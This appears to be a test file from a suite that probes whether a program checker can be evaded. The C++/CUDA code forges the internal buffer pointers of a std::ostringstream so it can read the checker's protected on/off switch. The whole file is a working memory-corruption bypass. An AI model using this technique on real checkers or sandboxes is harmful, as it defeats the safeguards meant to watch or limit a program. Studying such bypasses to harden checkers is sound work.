// Forges a string buffer that returns the checker's on/off switch, which the program may not read.
#include <new>
#include <sstream>
#include <string>

#include "../parts/solves_if_attack_works.cu"
#include "../parts/switch_of_the_checker.cu"

using Word = unsigned long;

__attribute__((noinline)) static void clear_the_stack() {
  volatile char room[4000];
  for (volatile char& one : room) one = 0;
}

// The look is at where the text is returned to, and finds a buffer without a text on the clean stack.
__attribute__((noinline)) static bool read_the_switch() {
  try {  // behind it compilers inline nothing of the library
    throw 1;
  } catch (int) {
  }
  auto* const stream = new std::ostringstream;
  auto* const buffer = reinterpret_cast<volatile Word*>(reinterpret_cast<Word>(stream) + 8);
  const Word from = reinterpret_cast<Word>(switch_of_the_checker());
  buffer[4] = from;      // where what has been written begins
  buffer[5] = from + 1;  // and ends
  struct {
    std::string text;
    char behind[200];
  } got{stream->str(), {}};
  volatile char* const behind = got.behind;
  behind[0] = 1;
  return got.text.size() == 1 && got.text[0] == 1;
}

bool attack_works() {
  clear_the_stack();
  return read_the_switch();
}
